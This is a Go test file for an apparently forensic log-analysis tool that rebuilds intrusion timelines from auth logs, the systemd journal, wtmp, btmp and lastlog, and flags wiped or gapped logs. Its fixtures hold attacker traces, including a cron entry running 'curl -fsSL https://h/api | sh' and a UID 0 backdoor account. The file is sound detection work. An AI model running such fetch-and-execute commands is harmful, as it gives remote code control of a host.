package observe

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"

	"demine/internal/fact"
	"demine/internal/format/authlog"
	"demine/internal/format/journal"
	"demine/internal/format/logscan"
	"demine/internal/format/utmp"
	"demine/internal/host"
	"demine/internal/host/fixture"
)

func events(s *fact.Snapshot) []string {
	var out []string
	for _, e := range s.Log {
		out = append(out, fmt.Sprintf("%s %s %s %s %s:%d %s", e.Time.UTC().Format("01-02 15:04:05"), e.Kind, e.User, e.From, e.Origin.Path, e.Origin.Line, e.Text))
	}
	return out
}

func TestLogDebian(t *testing.T) {
	s, c := lookAt(t, "log-debian", fact.Snapshot{}, log)
	want := []string{
		"01-01 00:00:00 log-wiped   /var/log/messages:0 ", // only a packed one is left
		"11-20 08:00:00 ssh-accepted shop 10.0.0.9 /var/log/auth.log.1:1 ",
		"11-22 18:50:01 ssh-accepted root 203.0.113.9 /var/log/auth.log:1 ",
		"11-22 18:51:01 ssh-failed root 198.51.100.7 /var/log/auth.log:2 ",
		"11-22 19:00:01 cron-run root  /var/log/syslog:1 curl -fsSL https://h/api | sh",
		"11-22 19:01:02 cron-refused *system*x  /var/log/syslog:3 INSECURE MODE (group/other writable) (/etc/cron.d/x)",
	}
	if d := cmp.Diff(want, events(s)); d != "" {
		t.Error(d)
	}
	if d := cmp.Diff([]string(nil), gaps(c)); d != "" {
		t.Error(d)
	}
	if r := s.Log[4]; r.Shell == nil || !r.Shell.FetchExec {
		t.Errorf("%+v", r)
	}
}

func wtmp(at time.Time, user, host string) string {
	b := make([]byte, utmp.Size)
	binary.LittleEndian.PutUint16(b, utmp.UserProcess)
	binary.LittleEndian.PutUint32(b[4:], 77)
	copy(b[8:], "pts/0")
	copy(b[44:], user)
	copy(b[76:], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(at.Unix()))
	return base64.StdEncoding.EncodeToString(b)
}

func TestLogins(t *testing.T) {
	at := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
	h, err := fixture.Parse([]byte("-- /var/log/wtmp enc=base64 --\n" + wtmp(at, "root", "203.0.113.9") +
		"\n-- /var/log/secure-20261115 --\nx\n-- /var/log/secure-20261101 --\nNov  1 00:00:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 5 ssh2\n"))
	if err != nil {
		t.Fatal(err)
	}
	s, c := lookAtHost(t, h, fact.Snapshot{}, log)
	want := []string{
		"01-01 00:00:00 log-wiped   /var/log/secure:0 ",
		"11-01 00:00:01 ssh-accepted a 1.2.3.4 /var/log/secure-20261101:1 ",
		"11-22 18:00:00 login root 203.0.113.9 /var/log/wtmp:0 pts/0",
	}
	if d := cmp.Diff(want, events(s)); d != "" || c.State != fact.Seen {
		t.Error(c, d)
	}
}

// journalOf is a file of package journal's tests, for a fixture.
func journalOf(t *testing.T, name string) string {
	t.Helper()
	f, err := os.Open("../format/journal/testdata/" + name + ".journal.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// What sshd and cron told the journal is read as from text; what an ordinary
// user logged under sshd's name is not believed.
func TestLogJournal(t *testing.T) {
	h, err := fixture.Parse([]byte("-- kernel/now --\n2026-11-22T19:37:00Z\n-- /var/log/journal/0123/system.journal enc=base64 --\n" + journalOf(t, "compact") + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	s, c := lookAtHost(t, h, fact.Snapshot{}, log)
	var got []string
	for _, e := range events(s) {
		if !strings.Contains(e, "ssh-failed") {
			got = append(got, fmt.Sprintf("%.120s", e))
		}
	}
	want := []string{
		"11-22 19:00:50 ssh-accepted root 203.0.113.9 /var/log/journal/0123/system.journal:0 ",
		"11-22 19:01:00 cron-run root  /var/log/journal/0123/system.journal:0 curl -fsSL https://h/api | sh",
		"11-22 19:01:10 user-added svc  /var/log/journal/0123/system.journal:0 new user: name=svc, UID=0, GID=0, home=/root, shel",
		"11-22 19:01:20 sudo shop  /var/log/journal/0123/system.journal:0 /bin/sh -c 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
	}
	if d := cmp.Diff(want, got); d != "" || c.State != fact.Seen {
		t.Error(c, d)
	}
	if len(s.Log) != 14 {
		t.Errorf("%d events", len(s.Log))
	}
	s = lookForTraces(t, h, s, log)
	n := 0
	for _, e := range s.Log {
		if e.Kind == "unit-started" && e.Service == "redis.service" {
			n++
		}
	}
	if n != 1 || len(s.Log) != 15 {
		t.Errorf("%d starts in %d events: what was read before is replaced", n, len(s.Log))
	}
}

func lookForTraces(t *testing.T, h *host.Host, base *fact.Snapshot, obs ...*Observer) *fact.Snapshot {
	t.Helper()
	return Run(context.Background(), h, obs, Scope{Traces: true}, base)
}

func TestLogJournalDamaged(t *testing.T) {
	h, err := fixture.Parse([]byte("-- /var/log/journal/0123/system.journal --\nx\n"))
	if err != nil {
		t.Fatal(err)
	}
	_, c := lookAtHost(t, h, fact.Snapshot{}, log)
	if d := cmp.Diff([]string{"unreadable /var/log/journal/0123/system.journal"}, gaps(c)); d != "" || c.State != fact.Partial {
		t.Error(c.State, d)
	}
}

// A file that somebody took out of the middle.
func TestSequenceGaps(t *testing.T) {
	at := func(d int) time.Time { return time.Date(2026, 11, d, 0, 0, 0, 0, time.UTC) }
	file := func(p string, head, tail uint64, from, to int) journalFile {
		return journalFile{fact.Path(p), "m", journal.Header{HeadSeq: head, TailSeq: tail, Head: at(from), Tail: at(to)}}
	}
	got := sequenceGaps([]journalFile{
		file("now", 900, 1000, 20, 22), file("user", 950, 960, 20, 21), file("first", 100, 300, 1, 9), file("empty", 0, 0, 1, 1), file("mid", 301, 500, 9, 12),
	})
	want := []fact.LogEvent{{
		Kind: "log-gap", Method: "sequence", Time: at(12), Until: at(20), Clock: fact.ClockExact, Count: 399, Origin: fact.Origin{Path: "now"},
	}}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// A file that could not be read is not one that was taken away.
func TestSequenceGapsUnread(t *testing.T) {
	b, err := base64.StdEncoding.DecodeString(journalOf(t, "compact"))
	if err != nil {
		t.Fatal(err)
	}
	later := slices.Clone(b)
	for _, at := range []int{160, 168} { // numbers of the last and the first entry
		binary.LittleEndian.PutUint64(later[at:], binary.LittleEndian.Uint64(b[at:])+1000)
	}
	file := func(name string, b []byte) string {
		return "-- /var/log/journal/0123/" + name + " enc=base64 --\n" + base64.StdEncoding.EncodeToString(b) + "\n"
	}
	both := "-- kernel/now --\n2026-11-22T19:37:00Z\n" + file("system.journal", later) + file("system@1.journal", b)
	for text, want := range map[string]int{
		both:                                    1,
		both + file("system@2.journal", b[:90]): 0,
		both + strings.ReplaceAll(file("system@2.journal", b[:90]), "/0123/", "/4567/"): 1,
	} {
		h, err := fixture.Parse([]byte(text))
		if err != nil {
			t.Fatal(err)
		}
		s, _ := lookAtHost(t, h, fact.Snapshot{}, log)
		n := 0
		for _, e := range s.Log {
			if e.Kind == "log-gap" && e.Method == "sequence" {
				n++
			}
		}
		if n != want {
			t.Errorf("%d gaps, want %d", n, want)
		}
	}
}

func gz(t *testing.T, text string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, text)
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// Old rotations are read for the story of an attack, in the year in which they
// were written; a number that is missing is told.
func TestRotations(t *testing.T) {
	h, err := fixture.Parse([]byte("-- kernel/now --\n2026-01-02T19:37:00Z\n" +
		"-- /var/log/auth.log --\nJan  2 09:00:00 h sshd[1]: Accepted password for now from 192.0.2.1 port 5 ssh2\n" +
		"-- /var/log/auth.log.1 mtime=2026-01-01T00:00:00Z --\nDec 30 09:00:00 h sshd[1]: Accepted password for one from 192.0.2.1 port 5 ssh2\n" +
		"-- /var/log/auth.log.4.gz mtime=2024-12-31T00:00:00Z enc=base64 --\n" +
		gz(t, "Dec 20 09:00:00 h sshd[1]: Accepted password for four from 192.0.2.1 port 5 ssh2\n") + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	users := func(s *fact.Snapshot) (out []string) {
		for _, e := range s.Log {
			out = append(out, fmt.Sprint(e.Time.Format("2006-01-02 "), e.Kind, " ", e.User, e.Method, e.Count, " ", e.Clock))
		}
		return out
	}
	s, _ := lookAtHost(t, h, fact.Snapshot{}, log)
	want := []string{"0001-01-01 log-gap rotation2 none", "2025-12-30 ssh-accepted onepassword0 year", "2026-01-02 ssh-accepted nowpassword0 year"}
	if d := cmp.Diff(want, users(s)); d != "" {
		t.Error(d)
	}
	s = lookForTraces(t, h, s, log)
	want = slices.Insert(want, 1, "2024-12-20 ssh-accepted fourpassword0 year")
	if d := cmp.Diff(want, users(s)); d != "" {
		t.Error(d)
	}
}

func TestWiped(t *testing.T) {
	hole := base64.StdEncoding.EncodeToString(append(append(bytesOf(t, wtmp(time.Unix(1700000000, 0), "root", "192.0.2.1")), make([]byte, 2*utmp.Size)...),
		bytesOf(t, wtmp(time.Unix(1700009000, 0), "shop", "192.0.2.2"))...))
	h, err := fixture.Parse([]byte("-- kernel/now --\n2026-11-22T19:37:00Z\n-- /var/log/secure -> /dev/null --\n-- /var/log/lastlog mtime=2026-11-22T19:00:00Z --\n" +
		"-- /var/log/messages mtime=2026-11-22T00:00:00Z --\n-- /var/log/messages.1 --\nx\n-- /var/log/wtmp enc=base64 --\n" + hole + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	base := fact.Snapshot{Host: fact.HostInfo{BootTime: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}}
	s, _ := lookAtHost(t, h, base, log)
	got := map[string]int{}
	for _, e := range s.Log {
		if e.Kind == "log-wiped" {
			got[e.Method+" "+string(e.Origin.Path)] = e.Count
		}
	}
	if d := cmp.Diff(map[string]int{"null-link /var/log/secure": 0, "empty /var/log/lastlog": 0, "zeroed /var/log/wtmp": 2}, got); d != "" {
		t.Error(d)
	}
}

func bytesOf(t *testing.T, b64 string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(b64)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestSilences(t *testing.T) {
	boot := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	var es []fact.LogEvent
	for i := range 60 {
		at := boot.Add(time.Duration(i+1) * 10 * time.Minute)
		if i >= 40 {
			at = at.Add(9 * time.Hour)
		}
		es = append(es, fact.LogEvent{Kind: "cron-run", Time: at})
	}
	got := silences(es, boot)
	if len(got) != 1 || got[0].Until.Sub(got[0].Time) != 9*time.Hour+10*time.Minute {
		t.Errorf("%+v", got)
	}
	if got := silences(es[:40], boot); got != nil {
		t.Errorf("%+v", got)
	}
}

func TestNewestDropsFailuresFirst(t *testing.T) {
	var es []fact.LogEvent
	for i := range 10 {
		kind := "ssh-failed"
		if i%2 == 0 {
			kind = "ssh-accepted"
		}
		es = append(es, fact.LogEvent{Kind: kind, Time: time.Unix(int64(i), 0)})
	}
	var got []string
	for _, e := range newest(es, 6) {
		got = append(got, fmt.Sprint(e.Time.Unix(), strings.TrimPrefix(e.Kind, "ssh-")))
	}
	if d := cmp.Diff([]string{"0accepted", "2accepted", "4accepted", "6accepted", "8accepted", "9failed"}, got); d != "" {
		t.Error(d)
	}
}

// btmp is folded by address, and only read for the story of an attack.
func TestFailedLogins(t *testing.T) {
	var b []byte
	for i := range 60 {
		r := bytesOf(t, wtmp(time.Unix(1795374000+int64(i), 0), "admin", "198.51.100.7"))
		binary.LittleEndian.PutUint16(r, utmp.LoginProcess)
		b = append(b, r...)
	}
	h, err := fixture.Parse([]byte("-- kernel/now --\n2026-11-22T19:37:00Z\n-- /var/log/btmp enc=base64 --\n" + base64.StdEncoding.EncodeToString(b) + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	s, _ := lookAtHost(t, h, fact.Snapshot{}, log)
	if len(s.Log) != 0 {
		t.Errorf("%+v", s.Log)
	}
	s = lookForTraces(t, h, s, log)
	if len(s.Log) != 1 || s.Log[0].Kind != "login-failed" || s.Log[0].Count != 60 || s.Log[0].From != "198.51.100.7" ||
		s.Log[0].Until.Unix() != 1795374059 {
		t.Errorf("%+v", s.Log)
	}
}

// Entries from before the clock was set are marked; those of another boot have
// a clock of their own.
func TestClockSteps(t *testing.T) {
	at := func(s int) time.Time { return time.Unix(1795374000+int64(s), 0) }
	c := bootClocks{}
	var got []fact.Clock
	for _, e := range []journal.Entry{
		{Boot: [16]byte{1}, Time: at(100), Monotonic: 100 * time.Second}, {Boot: [16]byte{1}, Time: at(93), Monotonic: 90 * time.Second},
		{Boot: [16]byte{1}, Time: at(-3500), Monotonic: 80 * time.Second}, {Boot: [16]byte{2}, Time: at(-4000), Monotonic: 10 * time.Second},
	} {
		got = append(got, c.of(e))
	}
	if d := cmp.Diff([]fact.Clock{fact.ClockExact, fact.ClockExact, fact.ClockStepped, fact.ClockExact}, got); d != "" {
		t.Error(d)
	}
}

// What is packed may hold nothing and have any size: what is read counts, not
// only what comes out, and an end of the look is an end.
func TestPackedNothing(t *testing.T) {
	e, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	line := func(user string) []byte {
		return e.EncodeAll([]byte("Nov 20 09:00:00 h sshd[1]: Accepted password for "+user+" from 192.0.2.1 port 5 ssh2\n"), nil)
	}
	const nothing = 400 << 10
	skippable := binary.LittleEndian.AppendUint32([]byte{0x50, 0x2a, 0x4d, 0x18}, nothing)
	packed := slices.Concat(line("one"), skippable, make([]byte, nothing), line("two"))
	h, err := fixture.Parse([]byte("-- /var/log/auth.log enc=base64 --\n" + base64.StdEncoding.EncodeToString(packed) + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	s, err := logscan.New(authlog.Anchors, false)
	if err != nil {
		t.Fatal(err)
	}
	ended, end := context.WithCancel(context.Background())
	defer end()
	for _, c := range []struct {
		ctx  context.Context
		left int64
		stop bool // when the log was opened
		want string
	}{
		{context.Background(), 1 << 20, false, "2 lines, more left true, []"},
		{context.Background(), 1 << 10, false, "1 lines, more left false, [older-not-read /var/log/auth.log]"},
		{ended, 1 << 20, true, "0 lines, more left true, [timeout /var/log/auth.log]"},
	} {
		var p Part
		r := newLogReader(c.ctx, &View{h: h, o: log, follow: map[fact.Path]bool{}}, &p, Scope{Traces: true}, 0, c.left)
		lines := 0
		r.scan("/var/log/auth.log", s, func(host.Info) {
			if c.stop {
				end()
			}
		}, func(logscan.Line, int, int64) { lines++ })
		if got := fmt.Sprintf("%d lines, more left %v, %v", lines, r.left > 0, gaps(fact.Coverage{Gaps: p.Gaps})); got != c.want {
			t.Errorf("got %q, want %q", got, c.want)
		}
	}
}

// lastRecord is one record of lastlog.
func lastRecord(at time.Time, from string) []byte {
	b := make([]byte, utmp.LastSize)
	binary.LittleEndian.PutUint32(b, uint32(at.Unix()))
	copy(b[4:], "pts/0")
	copy(b[36:], from)
	return b
}

// lastlog still tells of a login that wtmp does not tell of any more; once of
// several accounts with one number, and not of what another log tells.
func TestLastLogins(t *testing.T) {
	at := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
	last := slices.Concat(lastRecord(at.Add(2*time.Second), "203.0.113.9"), lastRecord(at, "203.0.113.66"), make([]byte, utmp.LastSize))
	h, err := fixture.Parse([]byte("-- /var/log/wtmp enc=base64 --\n" + wtmp(at, "root", "203.0.113.9") +
		"\n-- /var/log/lastlog enc=base64 --\n" + base64.StdEncoding.EncodeToString(last) + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	in := fact.Snapshot{Account: []fact.Account{
		{Name: "root"}, {Name: "shop", UID: 1}, {Name: "too", UID: 1}, {Name: "never", UID: 2}, {Name: "beyond", UID: 1 << 31},
	}}
	want := []string{
		"11-22 18:00:00 login root 203.0.113.9 /var/log/wtmp:0 pts/0",
		"11-22 18:00:00 login shop 203.0.113.66 /var/log/lastlog:0 pts/0",
	}
	if d := cmp.Diff(want, events(lookForTraces(t, h, &in, log))); d != "" {
		t.Error(d)
	}
}
